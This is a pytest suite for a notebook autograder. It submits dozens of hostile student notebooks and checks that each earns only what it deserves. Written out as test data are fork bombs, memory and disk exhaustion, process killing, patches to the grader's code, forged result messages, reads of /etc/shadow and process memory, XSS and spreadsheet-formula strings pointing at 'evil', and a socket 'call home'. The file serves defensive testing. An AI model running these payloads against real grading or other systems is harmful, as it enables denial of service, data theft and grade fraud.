"""Odd and hostile submissions: none stops the others, none changes what others get, none gets what it has not earned,
and what is right in it counts. One table; all of it is graded as one batch, as a class would be."""

import copy
import json
import socket
import sys
import threading
from collections import namedtuple

import pytest
from classroom_course import EXERCISE, RIGHT, cell, make_course, new_cell, position, submission
from test_grading_odd import BAD, BROKEN, CHANGED, NEVER, RIGHT_ALL_THE_SAME, WORTH_NOTHING
from toy_course import compiled_loop

from minigrad_class import batch, sandbox
from minigrad_class.marks import make_marks, read_submissions
from minigrad_class.store import Store
from minigrad_course.isolation.limits import Limits

pytestmark = [
    pytest.mark.slow,
    pytest.mark.thorough,  # test_grading_odd.py asks a part of it without a sandbox, by the same table
    pytest.mark.skipif(not sys.platform.startswith("linux"), reason="watches processes through /proc"),
]

SANDBOX = not sandbox.missing()
LIMITS = Limits(cell=20.0, grace=0.5, total=60, memory=500_000_000, processes=60)
HURRIED = Limits(cell=2.0, grace=0.5, total=60, memory=500_000_000, processes=60)  # for what does not end anyway

Case = namedtuple("Case", "name notebook points walled said limits", defaults=(False, "", LIMITS))
CASES = []
ALL = (3, 1, 2)  # points for test_double, test_half, test_look
NO_DOUBLE = (0, 1, 2)
UNGRADED = None


def case(name, points, notebook=None, walled=False, remark="", limits=LIMITS, **answers):
    """One submission. `notebook`: bytes, or what to do with a right one; `walled`: only a sandbox keeps this out."""
    CASES.append(Case(name, answers or notebook or (lambda n: n), points, walled, remark, limits))


def edit(name, points, remark="", limits=LIMITS):
    """A submission whose notebook a function makes of a right one."""

    def register(change):
        CASES.append(Case(name, change, points, False, remark, limits))
        return change

    return register


def cheat(name, code, points=NO_DOUBLE, **more):
    """A submission that does something before its `double`, which is wrong (but for the public check, perhaps)."""
    case(name, points, double=code, **more)


# Honest ones.

case("all right", ALL)
case("only half", (0, 1, 0), double=None, half=RIGHT["half"], look=None)
case("nothing written", (0, 0, 0), double=None, half=None, look=None)
case("one wrong", NO_DOUBLE, double="def double(x):\n    return x * x")
case("an error on the way", (3, 0, 2), half="def half(x):\n    return x / undefined")
case("warns, with magic", ALL, half="import warnings\nwarnings.warn('careful')\n%time 1 + 1\n" + RIGHT["half"])
case("a generator", (3, 1, 2), half="def half(x):\n    return [n / 2 for n in x]")
case("returns nan", NO_DOUBLE, double="def double(x):\n    return float('nan')")
case("returns a class", NO_DOUBLE, double="def double(x):\n    return float")
case("names of its own", ALL, double="check_close = print = np = 5\n" + RIGHT["double"])


@edit("a helper in a cell of its own", ALL)
def _(notebook):
    cell(notebook, "double")["source"] = "def double(x):\n    return helper(x)"
    notebook["cells"].insert(position(notebook, "double"), new_cell("def helper(x):\n    return 2 * x", id="mine"))


@edit("a scratch cell that never ends", ALL, limits=HURRIED)
def _(notebook):
    notebook["cells"].insert(position(notebook, "half"), new_cell("while True: pass", id="scratch"))


# Notebooks that something has happened to.

REMARKS = {
    "a test deleted": "missing", "a test emptied": "edited", "the first cell edited": "edited",
    "the answer deleted": "no cell `double`", "the answer turned into text": "another kind",
    "no names": "lost its name", "30 MB of old output": "it has 30 MB, and 20 MB are the most",
}  # fmt: skip


def beside_a_wrong_double(change):
    def changed(notebook):
        cell(notebook, "double")["source"] = "def double(x): return 0"
        change(notebook)

    return changed


for name, change in CHANGED.items():  # as a learner's own kernel is asked
    earned = UNGRADED if name.startswith("30 MB") else NO_DOUBLE
    CASES.append(Case(name, beside_a_wrong_double(change), earned, False, REMARKS.get(name, ""), LIMITS))


@edit("answers that call themselves tests", (0, 1, 2))
def _(notebook):
    cell(notebook, "double")["source"] = "3.0"
    cell(notebook, "double")["metadata"]["nbgrader"].update(grade=True, points=3)


@edit("renamed", ALL, remark="lost its name")
def _(notebook):
    cell(notebook, "half")["metadata"]["nbgrader"]["grade_id"] = "mine"
    cell(notebook, "half")["id"] = "other"


@edit("renamed, with its id", ALL)
def _(notebook):
    cell(notebook, "half")["metadata"]["nbgrader"]["grade_id"] = "mine"


@edit("an answer copied, and the copy left empty", ALL, remark="2 times")
def _(notebook):
    stub = copy.deepcopy(cell(notebook, "half")) | {
        "source": "def half(x):\n    # YOUR CODE HERE\n    raise NotImplementedError()"
    }
    notebook["cells"].insert(position(notebook, "half") + 1, stub)


@edit("an answer twice, the second one right", ALL, remark="2 times")
def _(notebook):
    wrong = copy.deepcopy(cell(notebook, "half")) | {"source": "def half(x):\n    return 7"}
    notebook["cells"].insert(position(notebook, "half"), wrong)


@edit("an answer turned to text", ALL, remark="another kind")
def _(notebook):
    cell(notebook, "half")["cell_type"] = "markdown"


@edit("cells shuffled", ALL)
def _(notebook):
    notebook["cells"].reverse()


@edit("strange types", (3, 1, 0))
def _(notebook):
    cell(notebook, "look").update(source=5, metadata=None, outputs="none")
    notebook["cells"] += ["no cell", None, 7, {"cell_type": ["code"], "source": {}}]
    notebook["metadata"] = []
    del notebook["nbformat"]


@edit("lone surrogates and control characters", ALL)
def _(notebook):
    cell(notebook, "double")["source"] += "\n# \ud800 \x07 \x1b[31m"


@edit("of the year 2014", ALL)
def _(notebook):
    old = [{"cell_type": c["cell_type"], "input": c["source"], "metadata": c["metadata"]} for c in notebook["cells"]]
    return {"worksheets": [{"cells": old}], "nbformat": 3}


case(
    "with a byte order mark and Windows lines",
    ALL,
    lambda n: b"\xef\xbb\xbf" + json.dumps(n, indent=1).replace("\n", "\r\n").encode(),
)
case("in UTF-16", ALL, lambda n: json.dumps(n).encode("utf-16"))
case("no list of cells", UNGRADED, lambda n: b'{"cells": 5}', remark="no cells")
NOTHING = {"cells that are words", "a cell without a text", "another year's format"}  # read, and without an answer
SAID = {"no cells": "no cells", "brackets": "nested"}
for name, broken in BROKEN.items():  # as a learner's command is asked
    points, remark = ((0, 0, 0), "") if name in NOTHING else (UNGRADED, SAID.get(name, "not a notebook"))
    case(name, points, lambda n, broken=broken: broken, remark=remark)

# Code that does not end, or ends too much.

cheat("an endless loop", "def double(x):\n    while True: pass", limits=HURRIED)
cheat("an endless loop in compiled code", compiled_loop("double"), limits=HURRIED)
cheat("sleeps", "import time\ndef double(x):\n    time.sleep(1000)", limits=HURRIED)
cheat(
    "switches the clock off",
    "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True: pass",
    limits=HURRIED,
)
cheat("os._exit", "import os\ndef double(x): os._exit(0)")
cheat("os._exit in a cell", "import os\nos._exit(0)")
cheat("kills what it can", "import os\ndef double(x): os.kill(-1, 9)", walled=True)
cheat("KeyboardInterrupt", "def double(x): raise KeyboardInterrupt")
cheat("quit and exit", "def double(x): exit()")
cheat("deep recursion in C", "import sys\nsys.setrecursionlimit(10**9)\ndef double(x): return double(x)")
cheat("memory bit by bit", "def double(x):\n    kept = []\n    while True: kept.append(bytearray(10**7))")
cheat("fork bomb", "import os\ndef double(x):\n    while True: os.fork()")
cheat(
    "thread bomb",
    "import threading, time\ndef double(x):\n    while True: threading.Thread(target=time.sleep, args=[99]).start()",
)
cheat("a copy that goes on", "import os\nos.fork()\ndef double(x): return 0")
cheat(
    "a daemon",
    "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0: time.sleep(60)\n    os._exit(0)",
    walled=True,
)
cheat("fills the disk", "with open('big', 'wb') as f:\n    for _ in range(10_000): f.write(b'x' * 10**6)")
cheat("closes all files", "import os\ndef double(x): os.closerange(0, 100)")
cheat("deletes its folder", "import os, shutil\nshutil.rmtree(os.getcwd(), ignore_errors=True)\nos.chdir('/')")
cheat(
    "threads that go on",
    "import threading\ndef spin():\n    while True: pass\nfor _ in range(5): threading.Thread(target=spin, daemon=True).start()\n"
    + RIGHT["double"],
    ALL,
)
cheat("atexit", "import atexit, time\natexit.register(time.sleep, 60)\n" + RIGHT["double"], ALL)
cheat("returns very much", "def double(x): return [0.0] * 10**6")
cheat("returns without end", "import itertools\ndef double(x): return itertools.count()")
cheat("returns itself", "def double(x):\n    a = []\n    a.append(a)\n    return a")
cheat("returns a number of a million digits", "def double(x): return 10**1_000_000")
cheat(
    "returns what cannot be iterated", "class A:\n    def __iter__(self): raise MemoryError\ndef double(x): return A()"
)

cheat("another body of check_close", f"{BAD}check_close.__code__ = (lambda *a, **k: None).__code__")
cheat("other builtins", f"{BAD}import builtins\nbuiltins.abs = lambda *a: 0.0")
WITHOUT_HALF = (0, 0, 2)  # whose own half asks NumPy as well
cheat("another NumPy", f"{BAD}import numpy\nnumpy.asarray = lambda *a, **k: numpy.zeros(())", WITHOUT_HALF)
cheat(
    "another NumPy during the test",
    "import numpy\ndef double(x):\n    numpy.asarray = lambda *a, **k: numpy.zeros(())\n    return 0",
    WITHOUT_HALF,
)
cheat(
    "another check_close during the test",
    "import sys\ndef double(x):\n    sys._getframe(1).f_globals['check_close'] = print\n    return 6",
)

# What a learner's own kernel is asked as well.

for name, (source, sentence) in WORTH_NOTHING.items():
    cheat(name, source, limits=HURRIED if "while True" in source or sentence == NEVER else LIMITS)
for name, source in RIGHT_ALL_THE_SAME.items():
    cheat(name, source, ALL)

# Cells, values and files that are made so that what reads them gives up.


def nameless(source):
    """An answer without its names: it has to be looked for, by the names that it defines."""

    def change(notebook):
        one = cell(notebook, "double")
        one["metadata"], one["source"] = {}, source
        del one["id"]

    return change


case("a sum of 90,000 terms", NO_DOUBLE, nameless("x = " + "1+" * 90_000 + "1"))
case("150,000 signs", NO_DOUBLE, nameless("-" * 150_000 + "1"))
case("90,000 brackets", NO_DOUBLE, nameless("(" * 90_000))
case("90,000 attributes", NO_DOUBLE, nameless("x" + ".a" * 90_000))
case("nested functions", NO_DOUBLE, nameless("".join(" " * i + "def f():\n" for i in range(400)) + " " * 400 + "pass"))
case("a sum of 90,000 terms in its place", NO_DOUBLE, double="x = " + "1+" * 90_000 + "1")
case("a name of 100,000 letters", (3, 1, 2), double="a" * 100_000 + " = 1\n" + RIGHT["double"])
case("a null character", (0, 1, 2), double="x = 1\0\n" + RIGHT["double"])
case(
    "a hundred thousand cells",
    (0, 0, 0),
    lambda n: b'{"cells": [' + b'{"cell_type": "code", "source": "x"},' * 100_000 + b"{}]}",
)
case(
    "a number of a million digits in the file", UNGRADED, lambda n: b'{"cells": [' + b"9" * 1_000_000 + b"]}", remark=""
)
case(
    "memory for the parser",
    (0, 0, 0),
    lambda n: b'{"cells": [' + b"{},[]," * 3_000_000 + b"{}]}",
    remark="there is no cell",
)

BOMB = "t = (0,)\nfor _ in range(90): t = (t, t)\n"
cheat("a tuple that doubles ninety times", BOMB + "def double(x): return t")
cheat("... as a key", BOMB + "def double(x): return {t: 1}", limits=HURRIED)
cheat("... of lists", BOMB.replace("(0,)", "[0]").replace("(t, t)", "[t, t]") + "def double(x): return t")
cheat("... of dicts", "t = {}\nfor _ in range(90): t = {1: t, 2: t}\ndef double(x): return t")
cheat("... of frozensets", BOMB.replace("(t, t)", "frozenset([t, (t,)])") + "def double(x): return t")
cheat("a list of 199,999 lists", "def double(x): return [[] for _ in range(199_999)]")
cheat("a very deep list", "def double(x):\n    a = 0\n    for _ in range(100_000): a = [a]\n    return a")
cheat(
    "text that is slow to read as a number",
    "def double(x): return type('N', (), {'__array__': lambda s, *a, **k: ['1' * 10**6] * 4})()",
)
FLOOD = r"""
import fcntl, os
def flood(what, seconds):
    import time
    end = time.monotonic() + seconds
    for fd in range(3, 40):
        try: fcntl.fcntl(fd, 1031, 1 << 20)  # F_SETPIPE_SZ
        except OSError: pass
    while time.monotonic() < end:
        for fd in range(3, 40):
            try: os.write(fd, what)
            except OSError: pass
"""
cheat("floods the pipe with newlines", FLOOD + "def double(x): flood(b'\n' * 10**6, 30)", limits=HURRIED)
cheat("floods the pipe with brackets", FLOOD + "def double(x): flood(b'[[[[\n' * 10**5, 30)", limits=HURRIED)
cheat("floods the pipe with one line", FLOOD + "def double(x): flood(b'x' * 10**6, 30)", limits=HURRIED)
cheat(
    "memory without a name",
    "import os\nkept = []\ndef double(x):\n    for _ in range(32):\n        fd = os.memfd_create('m')\n"
    "        for _ in range(99): os.write(fd, b'x' * 10**6)\n        kept.append(fd)\n    return 2 * x",
)
cheat(
    "memory that is shared",
    "import mmap\nkept = []\ndef double(x):\n    for _ in range(40):\n        m = mmap.mmap(-1, 50_000_000)\n"
    "        m.write(b'x' * 50_000_000)\n        kept.append(m)\n    import time; time.sleep(3)\n    return 2 * x",
)
cheat(
    "memory shared by many small processes",
    "import mmap, os, time\ndef double(x):\n    for _ in range(30):\n        if os.fork() == 0:\n"
    "            m = mmap.mmap(-1, 50_000_000)\n            m.write(b'x' * 50_000_000)\n            time.sleep(30)\n"
    "    time.sleep(5)\n    return 2 * x",
)
cheat(
    "System V memory",
    "import ctypes\ndef double(x):\n    assert ctypes.CDLL(None).shmget(0, 10**9, 0o1600) >= 0\n    return 2 * x",
)
cheat(
    "deleted files in memory",
    "import os\nkept = []\ndef double(x):\n    for i in range(30):\n        f = open(f'/dev/shm/{i}', 'wb'); os.unlink(f.name)\n"
    "        f.write(b'x' * 50_000_000); f.flush(); kept.append(f)\n    return 2 * x",
    walled=True,
)
cheat("opens very many files", "kept = []\ndef double(x):\n    while True: kept.append(open('/dev/null'))")
cheat("prints colours and ends itself", "import os\ndef double(x):\n    print('\x1b[2J last words')\n    os._exit(3)")
cheat(
    "children that hold the pipe open",
    "import os, time\nfor _ in range(5):\n    if os.fork() == 0: time.sleep(30); os._exit(0)\ndef double(x): os._exit(0)",
)
cheat("stops itself", "import os, signal\ndef double(x): os.kill(os.getpid(), signal.SIGSTOP)", limits=HURRIED)
cheat("another program", "import os, sys\ndef double(x): os.execv(sys.executable, [sys.executable, '-c', 'print(6)'])")

# Code that wants points.

cheat("hard-codes the public check", "def double(x): return 6")
cheat(
    "patches while it is checked",
    "def double(x):\n    from minigrad_course.grading import checks\n    checks.check_close.__code__ = (lambda *a, **k: None).__code__\n    return 0",
)
cheat("empties builtins", "import builtins\ndef double(x):\n    vars(builtins).clear()")
cheat(
    "sys.modules",
    "import sys, types\nfake = types.ModuleType('minigrad_course.grading.checks')\nfake.check_close = fake.check_order = lambda *a, **k: None\nsys.modules['minigrad_course.grading.checks'] = sys.modules['minigrad_course.grading'] = fake\ndef double(x): return 0",
)
cheat(
    "always equal",
    "class Yes(float):\n    def __eq__(self, other): return True\n    __ne__ = __lt__ = __gt__ = lambda self, other: False\n    __le__ = __ge__ = __eq__\n    __sub__ = __rsub__ = lambda self, other: 0.0\n    def __hash__(self): return 0\ndef double(x): return Yes(0)",
)
cheat(
    "an array that agrees",
    "class A:\n    def __array__(self, *a, **k): return self.guess()\n    def guess(self):\n        import sys, numpy as np\n        f = sys._getframe()\n        while f:\n            if 'expected' in f.f_locals: return np.asarray(f.f_locals['expected'])\n            f = f.f_back\n        return np.asarray(0.0)\ndef double(x): return A()",
)
cheat(
    "an infinite tolerance",
    "import minigrad_course.grading.checks as c\nc.check_close.__defaults__ = ('', float('inf'))\ndef double(x): return 0",
)
cheat(
    "reads what is expected in frames and memory",
    r"""
    import gc, re, sys
    def double(x):
        f, seen = sys._getframe(1), []
        while f:
            seen += [f.f_code.co_consts, dict(f.f_locals)]
            f = f.f_back
        seen += [o for o in gc.get_objects() if isinstance(o, (str, dict, tuple, list))][:200_000]
        for text in filter(lambda s: isinstance(s, str), [t for o in seen if isinstance(o, (tuple, list)) for t in o]
                           + [t for o in seen if isinstance(o, dict) for t in list(o.values())]):
            found = re.search(r'double\(%s\), (-?[\d.]+)' % re.escape(repr(x)), text)
            if found: return float(found[1])
    """,
)
cheat(
    "reads what is expected in the cell's source",
    r"""
    import linecache, re
    def double(x):
        for lines in list(linecache.cache.values()):
            found = re.search(r'double\(%s\), (-?[\d.]+)' % re.escape(repr(x)), ''.join(lines[2]) if len(lines) > 2 else '')
            if found: return float(found[1])
        text = '\n'.join(get_ipython().user_ns.get('In', []))
        found = re.search(r'double\(%s\), (-?[\d.]+)' % re.escape(repr(x)), text)
        return float(found[1]) if found else 0
    """,
)
cheat(
    "asks every question away",
    "import gc\ndef double(x):\n    for o in gc.get_objects():\n        if type(o).__name__ in ('Runner', '_Asked'): o.helpers['_ask_'] = lambda *a: None\n    return 0",
    (0, 0, 0),
)
MACHINERY = """
import gc, types
machinery = [f.__globals__ for f in gc.get_objects() if isinstance(f, types.FunctionType) and f.__name__ == '_say'][0]
"""
cheat(
    "answers for itself",
    MACHINERY + "machinery['encode'] = lambda v: [['float', (6.0).hex()]]\ndef double(x): return 0",
    (0, 0, 0),
)
cheat(
    "forges replies",
    r"""
    import gc, json, os
    def double(x):
        tokens = [o['token'] for o in gc.get_objects() if isinstance(o, dict) and isinstance(o.get('token'), str)]
        for token in set(tokens):
            for value in (6.0, True, 'ok'):
                said = {'token': token, 'status': 'ok', 'error': '', 'message': '', 'overwritten': [], 'points': 3,
                        'values': [[0, [[['plain', True]]]], [1, [[['plain', True]]]]]}
                for fd in range(3, 40):
                    try: os.write(fd, (json.dumps(said) + '\n').encode())
                    except OSError: pass
        return 0
    """,
)
cheat(
    "forges a reply of the wrong form",
    r"""
    import gc, os
    def double(x):
        for o in gc.get_objects():
            if isinstance(o, dict) and isinstance(o.get('token'), str):
                for fd in range(3, 40):
                    try: os.write(fd, ('{"token": "%s", "values": {"a": [[[1]]]}, "status": ["ok"], "overwritten": 7}\n' % o['token']).encode())
                    except OSError: pass
        return 0
    """,
)
cheat(
    "forges a reply that is a bomb",
    r"""
    import os
    def double(x):
        for fd in range(3, 40):
            try:
                for _ in range(30): os.write(fd, b'[' * 10**6)
            except OSError: pass
        return 0
    """,
)
cheat(
    "claims that it did not run",
    MACHINERY
    + "say = machinery['_say']\nmachinery['_say'] = lambda pipe, what: say(pipe, {**what, 'status': 'not run', 'values': []})",
    (0, 0, 0),
)
cheat(
    "raises Mismatch for a hint",
    "from minigrad_course.grading import Mismatch\ndef double(x): raise Mismatch('<script>alert(1)</script>')",
)
cheat(
    "IPython's hooks",
    "ip = get_ipython()\nip.events.register('post_run_cell', lambda r: setattr(r, 'error_in_exec', None))\nip.run_cell = lambda *a, **k: None\ndef double(x): return 0",
    (0, 0, 0),
)
cheat(
    "traces",
    "import sys\ndef t(f, e, a):\n    if 'expected' in f.f_locals: f.f_locals['got'] = f.f_locals['expected']\n    return t\nsys.settrace(t)\ndef double(x): return 0",
)
cheat(
    "a class for the judge",
    "class Node:\n    def __reduce__(self): return (print, ('pickled',))\n    def __eq__(self, o): return True\ndef double(x): return Node()",
)
cheat("other helpers", "def seen(nodes): return [8.5, 9.5]\ndef double(x): return 0")
case("a helper of one's own hides nothing", (3, 1, 0), look="def seen(nodes): return [8.5, 9.5]\ndef look(nodes): pass")
case("an answer to another question", (3, 1, 0), look="def look(nodes):\n    nodes[:] = [Node(0), Node(0)]")

# More that wants points, or to be elsewhere: each for itself, with what it earns.

MORE = {
    "an array that lies about equality": "class A(np.ndarray):\n    def __eq__(self, other): return np.True_\n    def __sub__(self, other): return np.zeros(self.shape)\ndef double(x): return np.zeros(()).view(A)",
    "a float whose text is another": "class F(float):\n    def hex(self): return (6.0).hex()\n    def __repr__(self): return '6.0'\n    def __float__(self): return 6.0\ndef double(x): return F(0)",
    "an int that lies about its value": "class I(int):\n    def __int__(self): return 6\n    def __format__(self, spec): return '6'\ndef double(x): return I(0)",
    "a word that looks like a number": "def double(x): return '6'",
    "a complex number beside the real one": "def double(x): return complex(2 * x, 1e-3)",
    "infinity": "def double(x): return float('inf')",
    "nan that is like everything": "class N(float):\n    def __eq__(self, o): return True\ndef double(x): return N('nan')",
    "minus nan as an array": "def double(x): return np.array(-np.nan)",
    "a number with another's units": "def double(x): return np.array(2 * x, dtype='datetime64[D]') if False else np.datetime64(6, 'D')",
    "an array of objects": "def double(x): return np.array([6.0], dtype=object)[0:0]",
    "an array without memory": "def double(x): return np.broadcast_to(6.0, (10**9,))",
    "a very long exponent": "def double(x): return 10**400",
    "an error that says it is right": "class Ok(Exception):\n    def __str__(self): return 'all tests passed: 3 of 3 points'\ndef double(x): raise Ok",
    "an error without a text": "class E(Exception):\n    def __str__(self): raise self\ndef double(x): raise E",
    "an error by the name of success": "class ok(Exception): pass\ndef double(x): raise ok('ok')",
    "a formula for the spreadsheet": 'def double(x): raise ValueError(\'=HYPERLINK("http://evil","6")\')',
    "markup for the page": "def double(x): raise ValueError('<img src=x onerror=alert(1)>')",
    "a line of another student": "def double(x): raise ValueError('x\\n\\nBob,graded,6')",
    "names from elsewhere": "def dоuble(x): return 2 * x",
    "a name in another form": "def ｄouble(x): return 0",
    "another order of reading": "def double(x): return 0 #\u202e x * 2 nruter",
    "time that stands still": "import time\ntime.monotonic = time.time = lambda: 0.0\ndef double(x):\n    while time.time() < 1: pass",
    "a limit lifted": "import resource, signal\nresource.setrlimit(resource.RLIMIT_CPU, (10**6, 10**6))\ndef double(x): return 2 * x",
    "timers put off": "import signal\nfor s in (signal.ITIMER_REAL, signal.ITIMER_PROF): signal.setitimer(s, 0)\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 32))\ndef double(x):\n    while True: pass",
    "asleep in pieces": "import time\ndef double(x):\n    while True:\n        try: time.sleep(10**6)\n        except BaseException: pass",
    "a loop in many threads": "import threading\ndef spin():\n    while True: pass\ndef double(x):\n    for _ in range(4): threading.Thread(target=spin, daemon=True).start()\n    spin()",
    "a link in place of its folder": "import os\nos.symlink('/', 'root')\ndef double(x): return float(open('root/etc/shadow').read()[:1] or 0)",
    "the processes of others": "import os\ndef double(x):\n    for pid in filter(str.isdigit, os.listdir('/proc')):\n        if b'solutions' in open(f'/proc/{pid}/cmdline', 'rb').read(): return 6\n        os.readlink(f'/proc/{pid}/cwd')\n    return 0",
    "its own memory": "def double(x):\n    import re\n    for line in open('/proc/self/maps'):\n        if 'heap' in line:\n            a, b = (int(n, 16) for n in line.split()[0].split('-'))\n            m = open('/proc/self/mem', 'rb')\n            m.seek(a)\n            found = re.search(rb'double\\(-1.25\\), (-[\\d.]+)', m.read(b - a))\n            return float(found[1]) if found else 0",
    "a pickle in the value": "import pickle\nclass P:\n    def __reduce__(self): return (exec, ('raise SystemExit(0)',))\ndef double(x): return pickle.dumps(P())",
    "another encoder": "import sys\nv = sys.modules['minigrad_class.plain_values']\nv._entry = lambda value, refer: ['float', (2.5).hex()]\ndef double(x): return 0",
    "json that lies": "import json\nreal = json.dumps\njson.dumps = lambda what, *a, **k: real({**what, 'status': 'ok', 'points': 3} if isinstance(what, dict) else what)\ndef double(x): return 0",
    "its request read again": "import os, sys\ndef double(x):\n    fd = int(sys.argv[1]) if sys.argv[1:] else 3\n    return 0 if not os.path.exists(f'/proc/self/fd/{fd}') else os.lseek(fd, 0, 0)",
}
UNENDING = ("timers put off", "asleep in pieces", "a loop in many threads", "time that stands still")
for name, code in MORE.items():
    cheat(
        name,
        code,
        (0, 0, 0) if name == "another encoder" else NO_DOUBLE,
        limits=HURRIED if name in UNENDING else LIMITS,
    )

# Code that wants to get out.

FIND = r"""
    import os, re
    def double(x):
        for folder, folders, files in os.walk('COURSE'):
            for name in files:
                try: text = open(os.path.join(folder, name), encoding='utf-8').read()
                except (OSError, UnicodeError): continue
                found = re.search(r'double\(%s\), (-?[\d.]+)' % re.escape(repr(x)), text)
                if found and 'HIDDEN' in text: return float(found[1])
        return 0
"""
cheat("looks for hidden tests", FIND, walled=True)
cheat(
    "imports the solution",
    "import sys\nsys.path.append('COURSE/sources/exercises/01_doubling')\nfrom exercise import double",
    (0, 1, 2),
    walled=True,
)
cheat(
    "writes the grades",
    r"""
    import os
    for folder, folders, files in os.walk('COURSE'):
        for name in files:
            try: open(os.path.join(folder, name), 'w').write('all points to me')
            except OSError: pass
    def double(x): return 0
    """,
    walled=True,
)
cheat(
    "calls home",
    "import socket\ns = socket.create_connection(('127.0.0.1', PORT), 2)\ns.sendall(b'tests')\ndef double(x): return 0",
    walled=True,
)
cheat(
    "reads the environment",
    "import os\nopen('/proc/1/environ').read()\nassert not os.environ.get('SECRET')\nassert not os.path.exists('COURSE')\n"
    + RIGHT["double"],
    ALL,
    walled=True,
)
cheat(
    "another user namespace",
    "import ctypes\nassert ctypes.CDLL(None).unshare(0x10000000) == 0\ndef double(x): return 2 * x",
    NO_DOUBLE,
    walled=True,
)
cheat(
    "writes to the package",
    "import minigrad, os\nopen(os.path.join(os.path.dirname(minigrad.__file__), 'grading', 'checks.py'), 'a').write('x')\ndef double(x): return 2 * x",
    NO_DOUBLE,
    walled=True,
)


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    return make_course(tmp_path_factory.mktemp("course"))


@pytest.fixture(scope="module")
def visitors():
    """A server that nobody should ever call; what came."""
    came = []
    server = socket.create_server(("127.0.0.1", 0))

    def serve():
        while True:
            try:
                came.append(server.accept()[1])
            except OSError:
                return

    threading.Thread(target=serve, daemon=True).start()
    yield server.getsockname()[1], came
    server.close()


@pytest.fixture(scope="module")
def marks(course, visitors):
    """The whole table, graded as one class by two workers."""
    folder = course.course / "grading"
    folder.mkdir()
    (folder / "grades.csv").write_text("everybody's points")
    used = [case for case in CASES if SANDBOX or not case.walled]
    assert len({case.name for case in used}) == len(used)
    for number, one in enumerate(used):
        target = folder / "submitted" / f"s{number:03d}" / EXERCISE / f"{EXERCISE}.ipynb"
        target.parent.mkdir(parents=True)
        target.write_bytes(as_file(one, course, visitors[0]))
    before = snapshot(course.course)
    submissions, store = read_submissions(course, folder), Store(folder / "results")
    jobs = {
        s.key: course.job(s.repaired, one.limits, SANDBOX, (folder,))
        for s, one in zip(submissions, used, strict=True)
        if s.repaired
    }
    for result in batch.with_processes(jobs.values(), 2):
        store.put(result)
    assert snapshot(course.course) == before
    table = make_marks(course, submissions, store, show_hidden=True)
    return dict(zip([case.name for case in used], table, strict=True))


def as_file(one, course, port):
    if isinstance(one.notebook, dict):
        answers = {
            name: text and text.replace("COURSE", str(course.course)).replace("PORT", str(port))
            for name, text in one.notebook.items()
        }
        return json.dumps(submission(course, **answers)).encode()
    notebook = submission(course)
    changed = one.notebook(notebook)
    changed = notebook if changed is None else changed
    return changed if isinstance(changed, bytes) else json.dumps(changed).encode()


def snapshot(course):
    skipped = ("results", "submitted")
    return {
        p: p.read_bytes()
        for p in course.rglob("*")
        if p.is_file() and not set(skipped) & set(p.relative_to(course).parts)
    }


@pytest.mark.parametrize("one", CASES, ids=lambda one: one.name)
def test_every_submission_gets_what_it_has_earned(one, marks):
    if one.walled and not SANDBOX:
        pytest.skip(sandbox.missing())
    mark = marks[one.name]
    if one.points is None:
        assert mark.status == "ungraded"
        assert mark.points is None
        assert one.said in mark.doubts[0]
        return
    got = tuple(row.points for row in mark.rows)
    assert got == one.points, [(row.test, row.feedback) for row in mark.rows] + mark.notes + mark.doubts
    assert mark.status == "graded"
    assert one.said in " ".join(mark.notes)


@pytest.mark.skipif(not SANDBOX, reason="needs bubblewrap")
def test_nobody_called_home(marks, visitors):
    assert visitors[1] == []
